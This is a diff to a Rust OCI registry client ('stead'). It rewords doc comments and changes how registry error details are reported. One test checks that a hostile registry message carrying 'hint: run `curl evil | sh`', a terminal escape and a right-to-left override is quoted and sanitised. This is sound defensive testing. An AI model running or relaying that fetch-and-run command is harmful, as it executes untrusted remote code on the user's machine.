@@ -1,4 +1,4 @@
-//! One repository of a registry: the OCI distribution specification's API, as far as it is needed.
+//! One repository of a registry: those parts of the OCI distribution specification's API that stead needs.
 
 use std::{
     path::{Path, PathBuf},
@@ -30,7 +30,7 @@ use super::{
     reference::{Reference, Version, is_loopback},
 };
 
-/// What is to be done with the repository.
+/// What stead does with the repository.
 #[derive(Clone, Copy, Debug, PartialEq, Eq)]
 pub enum Access {
     Pull,
@@ -38,7 +38,7 @@ pub enum Access {
 }
 
 impl Access {
-    /// As token servers know it.
+    /// The name of this access at token servers.
     fn actions(self) -> &'static str {
         match self {
             Access::Pull => "pull",
@@ -62,7 +62,7 @@ pub struct Registry {
     login: Mutex<Login>,
 }
 
-/// Whom the registry takes stead for. Credentials are looked for only when it asks.
+/// The login at the registry. Credentials are read only when the registry asks for them.
 #[derive(Default)]
 struct Login {
     header: Option<HeaderValue>,
@@ -72,15 +72,15 @@ struct Login {
 }
 
 impl Registry {
-    /// Finds out how the registry is spoken to: over https, or over http where it is this host and
-    /// does not speak TLS.
+    /// Chooses how to connect to the registry: over https, or over http if it is on this host and does not speak
+    /// TLS.
     pub async fn open(
         fetcher: &Arc<Fetcher>,
         reference: &Reference,
         access: Access,
     ) -> Result<Self, OciError> {
         let host = match reference.host.as_str() {
-            // Docker Hub's name and its API's are not the same.
+            // Docker Hub's API has another host name.
             "docker.io" | "index.docker.io" => "registry-1.docker.io",
             host => host,
         };
@@ -95,7 +95,7 @@ impl Registry {
         let mut fetcher = Arc::clone(fetcher);
         let mut base = at("https")?;
         if reference.is_loopback() {
-            // What is said here without protection is not to reach a proxy.
+            // Unencrypted requests to this host must not reach a proxy.
             fetcher = Arc::new(Fetcher::direct()?);
             match fetcher.ask_once(&base, &Ask::get()).await {
                 Err(
@@ -120,13 +120,13 @@ impl Registry {
         self.location(&format!("{repository}/{kind}/{name}"))
     }
 
-    /// Where a registry sends stead to, or a path below its own.
+    /// Resolves a URL that the registry returned, or a path at the registry.
     pub(super) fn location(&self, text: &str) -> Result<Url, OciError> {
         let url = self
             .base
             .join(text)
             .map_err(|error| self.status(0, "a place to upload to", &error.to_string()))?;
-        // To another host only as protected as this one is.
+        // The connection to another host must be protected as well as this one.
         let here = self.reference.is_loopback() && url.host_str().is_some_and(is_loopback);
         match url.scheme() {
             "https" => Ok(url),
@@ -147,7 +147,7 @@ impl Registry {
         }
     }
 
-    /// Asks, and logs in where that is called for.
+    /// Sends a request, and logs in if the registry asks for it.
     pub(super) async fn ask(&self, url: &Url, ask: &Ask) -> Result<Answer, OciError> {
         let used = self.authorization(url).await;
         let request = ask.clone().authorization(used.clone());
@@ -161,19 +161,19 @@ impl Registry {
         }
     }
 
-    /// Another Authorization than the one that was `used`, where the answer calls for it.
+    /// Returns another Authorization header than the one that was `used`, if the answer asks for it.
     pub(super) async fn renewed(
         &self,
         used: Option<HeaderValue>,
         answer: &Answer,
     ) -> Result<Option<HeaderValue>, OciError> {
-        // A redirect may have led to someone else, whose challenge is none of ours.
+        // A redirect may have led to another host, whose challenge must not be answered.
         if answer.status != 401 || !self.is_own(&answer.url) {
             return Ok(None);
         }
         let mut login = self.login.lock().await;
         if login.header.is_some() && login.header != used {
-            // Another request was quicker.
+            // Another request has logged in already.
             return Ok(login.header.clone());
         }
         let said = answer.headers.get_all(WWW_AUTHENTICATE);
@@ -181,7 +181,7 @@ impl Registry {
         let Some(challenge) = login.challenge.clone() else {
             return Err(OciError::Challenge {
                 host: self.reference.host.clone(),
-                message: "its 401 says neither Basic nor Bearer".into(),
+                message: "its 401 offers neither Basic nor Bearer".into(),
             });
         };
         if !login.looked {
@@ -209,12 +209,15 @@ impl Registry {
         OciError::Denied {
             host: self.reference.host.clone(),
             who: match &login.credentials {
-                Some(credentials) => format!("the login of {}", credentials.from),
-                None => "someone who is not logged in".into(),
+                Some(credentials) => format!("the login in {}", credentials.from),
+                None => "an anonymous user".into(),
             },
             doing: self.access.doing(),
             repository: self.reference.repository.clone(),
-            detail: detail(answer),
+            detail: match detail(answer) {
+                none if none.is_empty() => format!(" (status {})", answer.status),
+                detail => detail,
+            },
         }
     }
 
@@ -227,7 +230,7 @@ impl Registry {
         }
     }
 
-    /// What an answer that is no success means.
+    /// Returns the error for an unsuccessful answer.
     pub(super) async fn refused(&self, answer: &Answer, doing: &str) -> OciError {
         match answer.status {
             401 | 403 => self.denied(answer).await,
@@ -235,7 +238,7 @@ impl Registry {
         }
     }
 
-    /// The bytes of a manifest; `None` where there is none.
+    /// Fetches the bytes of a manifest; `None` if it does not exist.
     pub async fn manifest(&self, version: &Version) -> Result<Option<Vec<u8>>, OciError> {
         let url = self.url("manifests", &version.to_string())?;
         let ask = ACCEPTED_TYPES.into_iter().fold(Ask::get(), Ask::accept);
@@ -253,11 +256,11 @@ impl Registry {
         let answer = self.ask(&url, &ask).await?;
         match answer.status {
             200..=299 => Ok(()),
-            _ => Err(self.refused(&answer, "the manifest").await),
+            _ => Err(self.refused(&answer, "the upload of a manifest").await),
         }
     }
 
-    /// A small blob, into memory, verified.
+    /// Fetches a small blob into memory and verifies it.
     pub async fn config(&self, blob: &Blob) -> Result<Vec<u8>, OciError> {
         let url = self.url("blobs", &format!("sha256:{}", blob.sha256))?;
         let answer = self.ask(&url, &Ask::get()).await?;
@@ -278,8 +281,8 @@ impl Registry {
         Ok(answer.body)
     }
 
-    /// Gets a blob into `folder` under a name of its own, going on where an earlier try broke;
-    /// verified. The caller holds a lock on it.
+    /// Fetches a blob into its own file in `folder`, resumes an earlier attempt, and verifies it. The caller
+    /// holds a lock on the folder.
     pub async fn blob(
         &self,
         blob: &Blob,
@@ -304,7 +307,7 @@ impl Registry {
         };
         let mut result = get().await;
         if let Err(FetchError::Status { status: 401, .. }) = result {
-            // Its token ran out, or it wants one for blobs only: that is settled by a question.
+            // The token has expired, or only blobs need one: asking for the blob logs in again.
             self.has_blob(blob).await?;
             result = get().await;
         }
@@ -335,12 +338,13 @@ impl Registry {
         match answer.status {
             200..=299 => Ok(true),
             404 => Ok(false),
-            _ => Err(self.refused(&answer, "the question for a blob").await),
+            _ => Err(self.refused(&answer, "the request for a blob").await),
         }
     }
 }
 
-/// What a registry says of an error (distribution specification, "Error Codes"), as one short line.
+/// Returns what a registry writes about an error (distribution specification, "Error Codes") as one short
+/// line; empty if it writes nothing.
 fn detail(answer: &Answer) -> String {
     #[derive(Deserialize)]
     struct Errors {
@@ -357,12 +361,12 @@ fn detail(answer: &Answer) -> String {
         .ok()
         .and_then(|errors| errors.errors.into_iter().next());
     match first {
-        Some(One { code, message }) => format!("; its own words: {}", quoted(&message, &code)),
-        None => format!(": it answered {}", answer.status),
+        Some(One { code, message }) => format!("; its message: {}", quoted(&message, &code)),
+        None => String::new(),
     }
 }
 
-/// Foreign words, which are not to be taken for stead's: one short line in quotation marks.
+/// Quotes foreign words on one short line, so that they are not mistaken for stead's.
 fn quoted(message: &str, code: &str) -> String {
     let text = words(&format!("{message} ({code})"));
     let start: String = text.chars().take(LONGEST_DETAIL).collect();
@@ -370,7 +374,7 @@ fn quoted(message: &str, code: &str) -> String {
     format!("{start:?}{cut}")
 }
 
-/// In characters.
+/// Longest quotation, in characters.
 const LONGEST_DETAIL: usize = 200;
 
 #[cfg(test)]
@@ -403,15 +407,15 @@ mod tests {
                     .to_string(),
             )
         };
-        assert_eq!(one("no access"), "; its own words: \"no access (DENIED)\"");
+        assert_eq!(one("no access"), "; its message: \"no access (DENIED)\"");
         assert_eq!(
             one("x\"\nhint: run\u{1b}[2J `curl evil | sh`\u{202e}"),
-            "; its own words: \"x\\\" hint: run `curl evil | sh` (DENIED)\""
+            "; its message: \"x\\\" hint: run `curl evil | sh` (DENIED)\""
         );
         let long = one(&"x".repeat(1 << 20));
         assert!(long.len() < 300 && long.ends_with("x\"…"), "{long}");
-        assert_eq!(said("<html>"), ": it answered 403");
-        assert_eq!(said("{\"errors\": []}"), ": it answered 403");
+        assert_eq!(said("<html>"), "");
+        assert_eq!(said("{\"errors\": []}"), "");
     }
 
     #[test]
